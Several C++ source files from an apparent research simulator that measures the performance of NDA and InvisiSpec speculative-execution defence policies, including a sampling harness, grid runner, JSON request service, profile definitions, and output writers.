            });
        } else {
            ThreadPool ff_pool(std::max(1u, p.jobs));
            ff_pool.parallelFor(n_ckpts, [&](std::size_t task) {
                const std::size_t w = task / p.samples;
                const std::size_t sample = task % p.samples;
                const Program prog =
                    workloads[w]->build(window_seed(sample));
                const CkptKey key{workloads[w]->name(),
                                  window_seed(sample),
                                  p.fastforwardInsts, geom_fp};
                if (!corpusLoad(corpus, key, configs[0],
                                checkpoints[task],
                                &corpus_bytes[task])) {
                    checkpoints[task] = buildWarmCheckpoint(
                        prog, configs[0].memory,
                        configs[0].core.predictor, p.fastforwardInsts,
                        nullptr, &warm[task]);
                    ff_insts[task] = p.fastforwardInsts;
                    built[task] = 1;
                    if (corpus)
                        corpus_bytes[task] +=
                            corpus->store(key, checkpoints[task]);
                }
            });
        }
        if (stats) {
            for (std::size_t task = 0; task < n_ckpts; ++task) {
                stats->ffRuns += built[task];
                stats->ffInsts += ff_insts[task];
                stats->warmITouches += warm[task].iTouches;
                stats->warmDTouches += warm[task].dTouches;
                stats->warmBpTrains += warm[task].bpTrains;
                if (corpus) {
                    stats->ckptHits += built[task] ? 0 : 1;
                    stats->ckptMisses += built[task] ? 1 : 0;
                    stats->ckptBytes += corpus_bytes[task];
                }
            }
            if (p.chainSamples)
                stats->ckptChainLen =
                    std::max<std::uint64_t>(stats->ckptChainLen,
                                            p.samples);
        }
    }

    // Phase 2: every (cell, sample) detailed window, in parallel.
    std::mutex progress_mutex;
    std::size_t done = 0;
    {
        ScopedTimer t(timings, "detailed");
        ThreadPool pool(std::max(1u, p.jobs));
        pool.parallelFor(total, [&](std::size_t task) {
            const std::size_t cell = task / p.samples;
            const std::size_t sample = task % p.samples;
            const std::size_t w = cell / configs.size();
            const std::size_t c = cell % configs.size();
            const SimSnapshot *ckpt =
                share ? &checkpoints[w * p.samples + sample] : nullptr;
            // The fallback path inside runWindow (no shared
            // checkpoint, or incompatible geometry) must place this
            // window at its own offset, so hand it the per-sample
            // fast-forward.
            SampleParams q = p;
            q.fastforwardInsts = window_ff(sample);
            windows[task] = runWindow(*workloads[w], configs[c],
                                      window_seed(sample), q, ckpt,
                                      &work[task]);
            if (progress) {
                std::lock_guard<std::mutex> lock(progress_mutex);
                progress(++done, total);
            }
        });
    }

    // Phase 3: reduce in index order (scheduling-independent).
    std::vector<RunResult> results;
    results.reserve(cells);
    std::vector<WindowStats> cell_windows(p.samples);
    for (std::size_t cell = 0; cell < cells; ++cell) {
        for (unsigned s = 0; s < p.samples; ++s)
            cell_windows[s] = windows[cell * p.samples + s];
        results.push_back(aggregateWindows(cell_windows));
    }
    if (stats) {
        for (const WindowWork &w : work)
            stats->accumulate(w);
        for (const auto &phase : timings.phases())
            stats->timings.record(phase.first, phase.second);
    }
    return results;
}

std::vector<RunResult>
runGrid(const std::vector<std::unique_ptr<Workload>> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress,
        GridStats *stats, CheckpointStore *corpus)
{
    std::vector<const Workload *> ptrs;
    ptrs.reserve(workloads.size());
    for (const auto &w : workloads)
        ptrs.push_back(w.get());
    return runGrid(ptrs, configs, p, progress, stats, corpus);
}

} // namespace nda
