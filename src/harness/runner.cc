#include "harness/runner.hh"

#include "common/log.hh"
#include "common/stats_util.hh"
#include "core/core_factory.hh"

namespace nda {

WindowStats
runWindow(const Workload &workload, const SimConfig &cfg,
          std::uint64_t seed, const SampleParams &p)
{
    const Program prog = workload.build(seed);
    auto core = makeCore(prog, cfg);

    // Warm caches, predictors, and pipeline state.
    core->run(p.warmupInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during warm-up — too short",
               workload.name().c_str());

    // Measured window.
    core->resetCounters();
    core->run(p.measureInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during measurement",
               workload.name().c_str());

    const PerfCounters &c = core->counters();
    WindowStats w;
    w.cpi = c.cpi();
    w.mlp = c.mlp();
    w.ilp = c.ilp();
    w.dispatchToIssue = c.dispatchToIssue.mean();
    w.commitFrac = c.cycleFraction(CycleClass::kCommit);
    w.memStallFrac = c.cycleFraction(CycleClass::kMemoryStall);
    w.backendStallFrac = c.cycleFraction(CycleClass::kBackendStall);
    w.frontendStallFrac = c.cycleFraction(CycleClass::kFrontendStall);
    w.condMispredictRate = c.condMispredictRate();
    w.instructions = c.committedInsts;
    w.cycles = c.cycles;
    return w;
}

RunResult
runSampled(const Workload &workload, const SimConfig &cfg,
           const SampleParams &p)
{
    RunResult result;
    WindowStats acc;
    for (unsigned s = 0; s < p.samples; ++s) {
        const WindowStats w =
            runWindow(workload, cfg, p.baseSeed + s, p);
        result.cpiSamples.push_back(w.cpi);
        acc.cpi += w.cpi;
        acc.mlp += w.mlp;
        acc.ilp += w.ilp;
        acc.dispatchToIssue += w.dispatchToIssue;
        acc.commitFrac += w.commitFrac;
        acc.memStallFrac += w.memStallFrac;
        acc.backendStallFrac += w.backendStallFrac;
        acc.frontendStallFrac += w.frontendStallFrac;
        acc.condMispredictRate += w.condMispredictRate;
        acc.instructions += w.instructions;
        acc.cycles += w.cycles;
    }
    const double n = static_cast<double>(p.samples);
    acc.cpi /= n;
    acc.mlp /= n;
    acc.ilp /= n;
    acc.dispatchToIssue /= n;
    acc.commitFrac /= n;
    acc.memStallFrac /= n;
    acc.backendStallFrac /= n;
    acc.frontendStallFrac /= n;
    acc.condMispredictRate /= n;
    result.mean = acc;
    result.cpiCi95 = confidenceHalfWidth95(result.cpiSamples);
    return result;
}

} // namespace nda
