#include "harness/runner.hh"

#include <algorithm>
#include <mutex>

#include "common/log.hh"
#include "common/stats_util.hh"
#include "common/thread_pool.hh"
#include "core/core_factory.hh"

namespace nda {

WindowStats
runWindow(const Workload &workload, const SimConfig &cfg,
          std::uint64_t seed, const SampleParams &p)
{
    const Program prog = workload.build(seed);
    auto core = makeCore(prog, cfg);

    // Warm caches, predictors, and pipeline state.
    core->run(p.warmupInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during warm-up — too short",
               workload.name().c_str());

    // Measured window.
    core->resetCounters();
    core->run(p.measureInsts, ~Cycle{0});
    NDA_ASSERT(!core->halted(),
               "workload '%s' halted during measurement",
               workload.name().c_str());

    const PerfCounters &c = core->counters();
    WindowStats w;
    w.cpi = c.cpi();
    w.mlp = c.mlp();
    w.ilp = c.ilp();
    w.dispatchToIssue = c.dispatchToIssue.mean();
    w.commitFrac = c.cycleFraction(CycleClass::kCommit);
    w.memStallFrac = c.cycleFraction(CycleClass::kMemoryStall);
    w.backendStallFrac = c.cycleFraction(CycleClass::kBackendStall);
    w.frontendStallFrac = c.cycleFraction(CycleClass::kFrontendStall);
    w.condMispredictRate = c.condMispredictRate();
    w.instructions = c.committedInsts;
    w.cycles = c.cycles;
    return w;
}

RunResult
aggregateWindows(const std::vector<WindowStats> &windows)
{
    RunResult result;
    WindowStats acc;
    for (const WindowStats &w : windows) {
        result.cpiSamples.push_back(w.cpi);
        acc.cpi += w.cpi;
        acc.mlp += w.mlp;
        acc.ilp += w.ilp;
        acc.dispatchToIssue += w.dispatchToIssue;
        acc.commitFrac += w.commitFrac;
        acc.memStallFrac += w.memStallFrac;
        acc.backendStallFrac += w.backendStallFrac;
        acc.frontendStallFrac += w.frontendStallFrac;
        acc.condMispredictRate += w.condMispredictRate;
        acc.instructions += w.instructions;
        acc.cycles += w.cycles;
    }
    const double n = static_cast<double>(windows.size());
    acc.cpi /= n;
    acc.mlp /= n;
    acc.ilp /= n;
    acc.dispatchToIssue /= n;
    acc.commitFrac /= n;
    acc.memStallFrac /= n;
    acc.backendStallFrac /= n;
    acc.frontendStallFrac /= n;
    acc.condMispredictRate /= n;
    result.mean = acc;
    result.cpiCi95 = confidenceHalfWidth95(result.cpiSamples);
    return result;
}

RunResult
runSampled(const Workload &workload, const SimConfig &cfg,
           const SampleParams &p)
{
    std::vector<WindowStats> windows(p.samples);
    ThreadPool pool(std::min<unsigned>(std::max(1u, p.jobs),
                                       p.samples));
    pool.parallelFor(p.samples, [&](std::size_t s) {
        windows[s] = runWindow(workload, cfg,
                               p.baseSeed + static_cast<std::uint64_t>(s),
                               p);
    });
    return aggregateWindows(windows);
}

std::vector<RunResult>
runGrid(const std::vector<const Workload *> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress)
{
    const std::size_t cells = workloads.size() * configs.size();
    const std::size_t total = cells * p.samples;
    std::vector<WindowStats> windows(total);

    std::mutex progress_mutex;
    std::size_t done = 0;
    ThreadPool pool(std::max(1u, p.jobs));
    pool.parallelFor(total, [&](std::size_t task) {
        const std::size_t cell = task / p.samples;
        const std::size_t sample = task % p.samples;
        const std::size_t w = cell / configs.size();
        const std::size_t c = cell % configs.size();
        windows[task] =
            runWindow(*workloads[w], configs[c],
                      p.baseSeed + static_cast<std::uint64_t>(sample),
                      p);
        if (progress) {
            std::lock_guard<std::mutex> lock(progress_mutex);
            progress(++done, total);
        }
    });

    std::vector<RunResult> results;
    results.reserve(cells);
    std::vector<WindowStats> cell_windows(p.samples);
    for (std::size_t cell = 0; cell < cells; ++cell) {
        for (unsigned s = 0; s < p.samples; ++s)
            cell_windows[s] = windows[cell * p.samples + s];
        results.push_back(aggregateWindows(cell_windows));
    }
    return results;
}

std::vector<RunResult>
runGrid(const std::vector<std::unique_ptr<Workload>> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress)
{
    std::vector<const Workload *> ptrs;
    ptrs.reserve(workloads.size());
    for (const auto &w : workloads)
        ptrs.push_back(w.get());
    return runGrid(ptrs, configs, p, progress);
}

} // namespace nda
