#include "harness/grid_service.hh"

#include <cctype>
#include <cstdlib>
#include <cstring>
#include <memory>

#include "common/thread_pool.hh"
#include "ckpt/checkpoint_store.hh"
#include "harness/runner.hh"
#include "obs/json_writer.hh"
#include "workloads/workload.hh"

namespace nda {

const JsonValue *
JsonValue::find(const std::string &key) const
{
    if (kind != Kind::kObject)
        return nullptr;
    for (const auto &member : object) {
        if (member.first == key)
            return &member.second;
    }
    return nullptr;
}

namespace {

/**
 * Recursive-descent JSON parser. Fail-stop like the checkpoint
 * Cursor: any malformed byte flips `ok_` and every later step is a
 * no-op, so callers check once at the end. Depth-bounded, because a
 * request line is attacker-ish input (a stray client) and a
 * 10k-bracket line must not overflow the stack.
 */
class JsonParser
{
  public:
    JsonParser(const std::string &text, std::string &error)
        : text_(text), error_(error)
    {
    }

    bool
    parse(JsonValue &out)
    {
        skipSpace();
        parseValue(out, 0);
        skipSpace();
        if (ok_ && pos_ != text_.size())
            fail("trailing garbage");
        return ok_;
    }

  private:
    static constexpr int kMaxDepth = 32;

    void
    fail(const char *what)
    {
        if (!ok_)
            return;
        ok_ = false;
        error_ = std::string(what) + " at byte " + std::to_string(pos_);
    }

    void
    skipSpace()
    {
        while (pos_ < text_.size() &&
               std::isspace(static_cast<unsigned char>(text_[pos_]))) {
            ++pos_;
        }
    }

    bool
    consume(char c)
    {
        if (ok_ && pos_ < text_.size() && text_[pos_] == c) {
            ++pos_;
            return true;
        }
        return false;
    }

    bool
    literal(const char *word)
    {
        const std::size_t len = std::strlen(word);
        if (text_.compare(pos_, len, word) == 0) {
            pos_ += len;
            return true;
        }
        return false;
    }

    void
    parseValue(JsonValue &out, int depth)
    {
        if (!ok_)
            return;
        if (depth > kMaxDepth) {
            fail("nesting too deep");
            return;
        }
        skipSpace();
        if (pos_ >= text_.size()) {
            fail("unexpected end of input");
            return;
        }
        const char c = text_[pos_];
        if (c == '{') {
            parseObject(out, depth);
        } else if (c == '[') {
            parseArray(out, depth);
        } else if (c == '"') {
            out.kind = JsonValue::Kind::kString;
            parseString(out.string);
        } else if (literal("true")) {
            out.kind = JsonValue::Kind::kBool;
            out.boolean = true;
        } else if (literal("false")) {
            out.kind = JsonValue::Kind::kBool;
            out.boolean = false;
        } else if (literal("null")) {
            out.kind = JsonValue::Kind::kNull;
        } else {
            parseNumber(out);
        }
    }

    void
    parseObject(JsonValue &out, int depth)
    {
        out.kind = JsonValue::Kind::kObject;
        consume('{');
        skipSpace();
        if (consume('}'))
            return;
        while (ok_) {
            skipSpace();
            std::string key;
            parseString(key);
            skipSpace();
            if (!consume(':')) {
                fail("expected ':'");
                return;
            }
            JsonValue member;
            parseValue(member, depth + 1);
            out.object.emplace_back(std::move(key), std::move(member));
            skipSpace();
            if (consume('}'))
                return;
            if (!consume(',')) {
                fail("expected ',' or '}'");
                return;
            }
        }
    }

    void
    parseArray(JsonValue &out, int depth)
    {
        out.kind = JsonValue::Kind::kArray;
        consume('[');
        skipSpace();
        if (consume(']'))
            return;
        while (ok_) {
            JsonValue elem;
            parseValue(elem, depth + 1);
            out.array.push_back(std::move(elem));
            skipSpace();
            if (consume(']'))
                return;
            if (!consume(',')) {
                fail("expected ',' or ']'");
                return;
            }
        }
    }

    void
    parseString(std::string &out)
    {
        if (!consume('"')) {
            fail("expected string");
            return;
        }
        while (ok_) {
            if (pos_ >= text_.size()) {
                fail("unterminated string");
                return;
            }
            const char c = text_[pos_++];
            if (c == '"')
                return;
            if (c != '\\') {
                out += c;
                continue;
            }
            if (pos_ >= text_.size()) {
                fail("unterminated escape");
                return;
            }
            const char esc = text_[pos_++];
            switch (esc) {
              case '"': out += '"'; break;
              case '\\': out += '\\'; break;
              case '/': out += '/'; break;
              case 'n': out += '\n'; break;
              case 't': out += '\t'; break;
              case 'r': out += '\r'; break;
              case 'b': out += '\b'; break;
              case 'f': out += '\f'; break;
              case 'u': {
                // The protocol is ASCII; decode BMP escapes to the
                // low byte and reject nothing — lossy but total.
                if (pos_ + 4 > text_.size()) {
                    fail("truncated \\u escape");
                    return;
                }
                unsigned code = 0;
                for (int i = 0; i < 4; ++i) {
                    const char h = text_[pos_++];
                    code <<= 4;
                    if (h >= '0' && h <= '9') {
                        code |= static_cast<unsigned>(h - '0');
                    } else if (h >= 'a' && h <= 'f') {
                        code |= static_cast<unsigned>(h - 'a' + 10);
                    } else if (h >= 'A' && h <= 'F') {
                        code |= static_cast<unsigned>(h - 'A' + 10);
                    } else {
                        fail("bad \\u escape");
                        return;
                    }
                }
                out += static_cast<char>(code & 0xff);
                break;
              }
              default:
                fail("unknown escape");
                return;
            }
        }
    }

    void
    parseNumber(JsonValue &out)
    {
        const char *start = text_.c_str() + pos_;
        char *end = nullptr;
        const double v = std::strtod(start, &end);
        if (end == start) {
            fail("expected value");
            return;
        }
        out.kind = JsonValue::Kind::kNumber;
        out.number = v;
        pos_ += static_cast<std::size_t>(end - start);
    }

    const std::string &text_;
    std::string &error_;
    std::size_t pos_ = 0;
    bool ok_ = true;
};

/** One response line: compact JSON + the caller's framing newline. */
std::string
line(const std::function<void(JsonWriter &)> &fill)
{
    JsonWriter w(/*pretty=*/false);
    w.beginObject();
    fill(w);
    w.endObject();
    return w.str();
}

struct RequestError {
    std::string message;
};

/** Field extractors: wrong type is a protocol error, not a default. */
std::uint64_t
u64Field(const JsonValue &req, const char *key, std::uint64_t dflt)
{
    const JsonValue *v = req.find(key);
    if (!v)
        return dflt;
    if (v->kind != JsonValue::Kind::kNumber || v->number < 0)
        throw RequestError{std::string("field '") + key +
                           "' must be a non-negative number"};
    return static_cast<std::uint64_t>(v->number);
}

bool
boolField(const JsonValue &req, const char *key, bool dflt)
{
    const JsonValue *v = req.find(key);
    if (!v)
        return dflt;
    if (v->kind != JsonValue::Kind::kBool)
        throw RequestError{std::string("field '") + key +
                           "' must be a boolean"};
    return v->boolean;
}

std::vector<std::string>
nameListField(const JsonValue &req, const char *key)
{
    std::vector<std::string> names;
    const JsonValue *v = req.find(key);
    if (!v)
        return names;
    if (v->kind != JsonValue::Kind::kArray)
        throw RequestError{std::string("field '") + key +
                           "' must be an array of strings"};
    for (const JsonValue &elem : v->array) {
        if (elem.kind != JsonValue::Kind::kString)
            throw RequestError{std::string("field '") + key +
                               "' must be an array of strings"};
        names.push_back(elem.string);
    }
    return names;
}

} // namespace

bool
GridService::handleRequest(const std::string &request_line,
                           const Emit &emit)
{
    std::string id;
    const auto error = [&](const std::string &message) {
        ++stats_.errors;
        emit(line([&](JsonWriter &w) {
            w.key("type");
            w.value("error");
            if (!id.empty()) {
                w.key("id");
                w.value(id);
            }
            w.key("error");
            w.value(message);
        }));
        return false;
    };

    JsonValue req;
    std::string parse_error;
    if (!parseJson(request_line, req, parse_error))
        return error("bad JSON: " + parse_error);
    if (req.kind != JsonValue::Kind::kObject)
        return error("request must be a JSON object");
    if (const JsonValue *v = req.find("id");
        v && v->kind == JsonValue::Kind::kString) {
        id = v->string;
    }

    SampleParams p;
    std::vector<std::unique_ptr<Workload>> workloads;
    std::vector<SimConfig> configs;
    std::vector<Profile> profiles;
    try {
        p.fastforwardInsts = u64Field(req, "fastforward", 0);
        p.warmupInsts = u64Field(req, "warmup", p.warmupInsts);
        p.measureInsts = u64Field(req, "measure", p.measureInsts);
        p.samples =
            static_cast<unsigned>(u64Field(req, "samples", p.samples));
        p.baseSeed = u64Field(req, "seed", p.baseSeed);
        p.jobs = static_cast<unsigned>(u64Field(req, "jobs", 0));
        if (p.jobs == 0)
            p.jobs = ThreadPool::defaultConcurrency();
        p.reuseCheckpoints = boolField(req, "reuse", true);
        p.chainSamples = boolField(req, "chain", false);
        p.cpiStack = boolField(req, "cpi_stack", false);

        // SampleParams::validate() is NDA_FATAL — re-check its
        // conditions here so a bad request degrades to an error line
        // instead of killing the server.
        if (p.samples == 0)
            throw RequestError{"'samples' must be >= 1"};
        if (p.measureInsts == 0)
            throw RequestError{"'measure' must be >= 1"};
        if (p.chainSamples && p.fastforwardInsts == 0)
            throw RequestError{
                "'chain' needs a nonzero 'fastforward' stride"};

        const std::vector<std::string> wl_names =
            nameListField(req, "workloads");
        if (wl_names.empty()) {
            workloads = makeAllWorkloads();
        } else {
            for (const std::string &name : wl_names) {
                auto w = makeWorkload(name);
                if (!w)
                    throw RequestError{"unknown workload '" + name +
                                       "'"};
                workloads.push_back(std::move(w));
            }
        }

        const std::vector<std::string> prof_names =
            nameListField(req, "profiles");
        if (prof_names.empty()) {
            profiles = allProfiles();
        } else {
            for (const std::string &name : prof_names) {
                Profile prof;
                if (!profileByName(name, prof))
                    throw RequestError{"unknown profile '" + name +
                                       "'"};
                profiles.push_back(prof);
            }
        }
        for (Profile prof : profiles)
            configs.push_back(makeProfile(prof));
    } catch (const RequestError &e) {
        return error(e.message);
    }

    GridStats gs;
    const auto progress = [&](std::size_t done, std::size_t total) {
        emit(line([&](JsonWriter &w) {
            w.key("type");
            w.value("progress");
            if (!id.empty()) {
                w.key("id");
                w.value(id);
            }
            w.key("done");
            w.value(static_cast<std::uint64_t>(done));
            w.key("total");
            w.value(static_cast<std::uint64_t>(total));
        }));
    };
    const std::vector<RunResult> results =
        runGrid(workloads, configs, p, progress, &gs, corpus_);

    for (std::size_t w_idx = 0; w_idx < workloads.size(); ++w_idx) {
        for (std::size_t c = 0; c < configs.size(); ++c) {
            const RunResult &r = results[w_idx * configs.size() + c];
            emit(line([&](JsonWriter &w) {
                w.key("type");
                w.value("cell");
                if (!id.empty()) {
                    w.key("id");
                    w.value(id);
                }
                w.key("workload");
                w.value(workloads[w_idx]->name());
                w.key("profile");
                w.value(profileName(profiles[c]));
                w.key("cpi");
                w.value(r.mean.cpi);
                w.key("ci95");
                w.value(r.cpiCi95);
                w.key("mlp");
                w.value(r.mean.mlp);
                w.key("samples");
                w.value(static_cast<std::uint64_t>(
                    r.cpiSamples.size()));
                // CPI-stack summary (requests with "cpi_stack":
                // true): per-cause slot counts, nonzero buckets
                // only; the slot identity holds on the full vector,
                // so sum(slots) == slot_width x cycles exactly.
                if (!r.mean.slotStack.empty()) {
                    w.key("slot_width");
                    w.value(r.mean.slotWidth);
                    w.key("cycles");
                    w.value(r.mean.cycles);
                    w.key("slots");
                    w.beginObject();
                    for (int s = 0; s < kNumStallCauses; ++s) {
                        if (!r.mean.slotStack[s])
                            continue;
                        w.key(stallCauseStatName(
                            static_cast<StallCause>(s)));
                        w.value(r.mean.slotStack[s]);
                    }
                    w.endObject();
                }
            }));
        }
    }

    ++stats_.requests;
    stats_.cells += results.size();
    stats_.ckptHits += gs.ckptHits;
    stats_.ckptMisses += gs.ckptMisses;
    stats_.ckptBytes += gs.ckptBytes;

    emit(line([&](JsonWriter &w) {
        w.key("type");
        w.value("done");
        if (!id.empty()) {
            w.key("id");
            w.value(id);
        }
        w.key("cells");
        w.value(static_cast<std::uint64_t>(results.size()));
        w.key("windows");
        w.value(gs.windows);
        w.key("ckpt_hits");
        w.value(gs.ckptHits);
        w.key("ckpt_misses");
        w.value(gs.ckptMisses);
        w.key("ckpt_bytes");
        w.value(gs.ckptBytes);
        w.key("ckpt_chain_len");
        w.value(gs.ckptChainLen);
        w.key("ff_runs");
        w.value(gs.ffRuns);
        w.key("ff_insts");
        w.value(gs.ffInsts);
    }));
    return true;
}

bool
parseJson(const std::string &text, JsonValue &out, std::string &error)
{
    JsonParser parser(text, error);
    return parser.parse(out);
}

} // namespace nda
