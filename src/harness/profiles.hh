/**
 * @file
 * The ten machine profiles evaluated in the paper (§6.3): insecure
 * OoO, the six NDA policies of Table 2, the in-order baseline, and
 * the two InvisiSpec variants.
 */

#ifndef NDASIM_HARNESS_PROFILES_HH
#define NDASIM_HARNESS_PROFILES_HH

#include <string>
#include <vector>

#include "core/core_config.hh"

namespace nda {

/** Profile identifiers in Fig 7 legend order. */
enum class Profile {
    kOoo = 0,
    kPermissive,
    kPermissiveBr,
    kStrict,
    kStrictBr,
    kRestrictedLoads,
    kFullProtection,
    kInOrder,
    kInvisiSpecSpectre,
    kInvisiSpecFuture,
    kNumProfiles,
};

/** Build the SimConfig for one profile (Table 3 structural params). */
SimConfig makeProfile(Profile p);

/** Display name matching the paper's Fig 7 legend. */
const char *profileName(Profile p);

/**
 * Inverse of profileName: look a profile up by its Fig 7 legend name
 * ("OoO", "Strict+BR", ...). Returns false and leaves `out` untouched
 * when the name matches no profile.
 */
bool profileByName(const std::string &name, Profile &out);

/** All profiles in Fig 7 order. */
std::vector<Profile> allProfiles();

/** The six NDA profiles plus baselines, excluding InvisiSpec. */
std::vector<Profile> ndaProfiles();

} // namespace nda

#endif // NDASIM_HARNESS_PROFILES_HH
