#include "harness/csv.hh"

#include <cstdio>

namespace nda {

CsvWriter::CsvWriter(const std::string &path)
    : out_(path)
{
}

std::string
CsvWriter::escape(const std::string &field)
{
    const bool needs_quotes =
        field.find_first_of(",\"\n") != std::string::npos;
    if (!needs_quotes)
        return field;
    std::string quoted = "\"";
    for (char c : field) {
        if (c == '"')
            quoted += '"';
        quoted += c;
    }
    quoted += '"';
    return quoted;
}

void
CsvWriter::row(const std::vector<std::string> &fields)
{
    for (std::size_t i = 0; i < fields.size(); ++i) {
        if (i)
            out_ << ',';
        out_ << escape(fields[i]);
    }
    out_ << '\n';
}

std::string
CsvWriter::num(double v, int precision)
{
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.*f", precision, v);
    return buf;
}

} // namespace nda
