#include "harness/table_printer.hh"

#include <algorithm>
#include <cstdio>

namespace nda {

TablePrinter::TablePrinter(std::vector<std::string> headers)
    : headers_(std::move(headers))
{
}

void
TablePrinter::addRow(std::vector<std::string> cells)
{
    rows_.push_back(std::move(cells));
}

void
TablePrinter::print() const
{
    std::vector<std::size_t> widths(headers_.size(), 0);
    for (std::size_t c = 0; c < headers_.size(); ++c)
        widths[c] = headers_[c].size();
    for (const auto &row : rows_) {
        for (std::size_t c = 0; c < row.size() && c < widths.size(); ++c)
            widths[c] = std::max(widths[c], row[c].size());
    }

    auto print_row = [&](const std::vector<std::string> &row) {
        for (std::size_t c = 0; c < widths.size(); ++c) {
            const std::string &cell = c < row.size() ? row[c] : "";
            std::printf("%-*s", static_cast<int>(widths[c] + 2),
                        cell.c_str());
        }
        std::printf("\n");
    };

    print_row(headers_);
    std::size_t total = 0;
    for (auto w : widths)
        total += w + 2;
    std::printf("%s\n", std::string(total, '-').c_str());
    for (const auto &row : rows_)
        print_row(row);
}

std::string
TablePrinter::fmt(double v, int precision)
{
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.*f", precision, v);
    return buf;
}

std::string
TablePrinter::pct(double v, int precision)
{
    char buf[64];
    std::snprintf(buf, sizeof(buf), "%.*f%%", precision, v * 100.0);
    return buf;
}

void
printBanner(const std::string &title)
{
    std::printf("\n=== %s ===\n\n", title.c_str());
}

std::string
asciiBar(double value, double max_value, int width)
{
    const int n = max_value > 0
                      ? static_cast<int>(value / max_value * width + 0.5)
                      : 0;
    std::string bar(static_cast<std::size_t>(std::clamp(n, 0, width)),
                    '#');
    return bar;
}

} // namespace nda
