/**
 * @file
 * Minimal CSV writer so bench binaries can export the figure data for
 * external plotting (the repository's text tables remain the primary
 * artifact).
 */

#ifndef NDASIM_HARNESS_CSV_HH
#define NDASIM_HARNESS_CSV_HH

#include <fstream>
#include <string>
#include <vector>

namespace nda {

/** Row-oriented CSV writer with RFC-4180-style quoting. */
class CsvWriter
{
  public:
    /** Opens `path` for writing; check ok() before use. */
    explicit CsvWriter(const std::string &path);

    bool ok() const { return static_cast<bool>(out_); }

    /** Write one row; fields are quoted when needed. */
    void row(const std::vector<std::string> &fields);

    /** Convenience: format a double with fixed precision. */
    static std::string num(double v, int precision = 6);

  private:
    static std::string escape(const std::string &field);

    std::ofstream out_;
};

} // namespace nda

#endif // NDASIM_HARNESS_CSV_HH
