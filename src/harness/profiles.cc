#include "harness/profiles.hh"

#include "common/log.hh"

namespace nda {

SimConfig
makeProfile(Profile p)
{
    SimConfig cfg;
    cfg.name = profileName(p);
    SecurityConfig &s = cfg.security;
    switch (p) {
      case Profile::kOoo:
        break;
      case Profile::kPermissive:
        s.propagation = NdaPolicy::kPermissive;
        break;
      case Profile::kPermissiveBr:
        s.propagation = NdaPolicy::kPermissive;
        s.bypassRestriction = true;
        break;
      case Profile::kStrict:
        s.propagation = NdaPolicy::kStrict;
        break;
      case Profile::kStrictBr:
        s.propagation = NdaPolicy::kStrict;
        s.bypassRestriction = true;
        break;
      case Profile::kRestrictedLoads:
        s.loadRestriction = true;
        break;
      case Profile::kFullProtection:
        s.propagation = NdaPolicy::kStrict;
        s.bypassRestriction = true;
        s.loadRestriction = true;
        break;
      case Profile::kInOrder:
        cfg.inOrder = true;
        break;
      case Profile::kInvisiSpecSpectre:
        s.invisiSpec = InvisiSpecMode::kSpectre;
        break;
      case Profile::kInvisiSpecFuture:
        s.invisiSpec = InvisiSpecMode::kFuture;
        break;
      default:
        NDA_FATAL("unknown profile");
    }
    return cfg;
}

const char *
profileName(Profile p)
{
    switch (p) {
      case Profile::kOoo:
        return "OoO";
      case Profile::kPermissive:
        return "Permissive";
      case Profile::kPermissiveBr:
        return "Permissive+BR";
      case Profile::kStrict:
        return "Strict";
      case Profile::kStrictBr:
        return "Strict+BR";
      case Profile::kRestrictedLoads:
        return "Restricted Loads";
      case Profile::kFullProtection:
        return "Full Protection";
      case Profile::kInOrder:
        return "In-Order";
      case Profile::kInvisiSpecSpectre:
        return "InvisiSpec-Spectre";
      case Profile::kInvisiSpecFuture:
        return "InvisiSpec-Future";
      default:
        return "?";
    }
}

bool
profileByName(const std::string &name, Profile &out)
{
    for (Profile p : allProfiles()) {
        if (name == profileName(p)) {
            out = p;
            return true;
        }
    }
    return false;
}

std::vector<Profile>
allProfiles()
{
    return {
        Profile::kOoo,
        Profile::kPermissive,
        Profile::kPermissiveBr,
        Profile::kStrict,
        Profile::kStrictBr,
        Profile::kRestrictedLoads,
        Profile::kFullProtection,
        Profile::kInOrder,
        Profile::kInvisiSpecSpectre,
        Profile::kInvisiSpecFuture,
    };
}

std::vector<Profile>
ndaProfiles()
{
    return {
        Profile::kOoo,
        Profile::kPermissive,
        Profile::kPermissiveBr,
        Profile::kStrict,
        Profile::kStrictBr,
        Profile::kRestrictedLoads,
        Profile::kFullProtection,
        Profile::kInOrder,
    };
}

} // namespace nda
