/**
 * @file
 * SMARTS-style sampled-measurement harness (paper §6.1): for each
 * (workload, profile) pair, run K independently-seeded samples, each
 * with a warm-up phase followed by a measured window, and report the
 * mean and 95% confidence interval of CPI plus the Fig 9 statistics.
 *
 * Every window is an independent simulation — it owns its core,
 * memory, and RNG, seeded from (baseSeed + sample index) — so the
 * harness runs windows concurrently on a thread pool when
 * SampleParams::jobs > 1. Results are written into slots indexed by
 * task id and reduced in index order afterwards, which makes the
 * parallel output bit-identical to the serial (jobs = 1) path.
 */

#ifndef NDASIM_HARNESS_RUNNER_HH
#define NDASIM_HARNESS_RUNNER_HH

#include <cstdint>
#include <functional>
#include <vector>

#include "core/core_config.hh"
#include "core/perf_counters.hh"
#include "harness/profiles.hh"
#include "workloads/workload.hh"

namespace nda {

/** Per-sample measurement knobs. */
struct SampleParams {
    std::uint64_t warmupInsts = 20'000;
    std::uint64_t measureInsts = 100'000;
    unsigned samples = 3;       ///< independently-seeded runs
    std::uint64_t baseSeed = 1;
    /** Concurrent simulation windows; 1 = fully serial (no pool). */
    unsigned jobs = 1;
};

/** Measured statistics of one sample window. */
struct WindowStats {
    double cpi = 0.0;
    double mlp = 0.0;
    double ilp = 0.0;
    double dispatchToIssue = 0.0;
    double commitFrac = 0.0;
    double memStallFrac = 0.0;
    double backendStallFrac = 0.0;
    double frontendStallFrac = 0.0;
    double condMispredictRate = 0.0;
    std::uint64_t instructions = 0;
    std::uint64_t cycles = 0;
};

/** Aggregated result over all samples of one (workload, profile). */
struct RunResult {
    WindowStats mean;
    double cpiCi95 = 0.0;       ///< 95% CI half-width on CPI
    std::vector<double> cpiSamples;
};

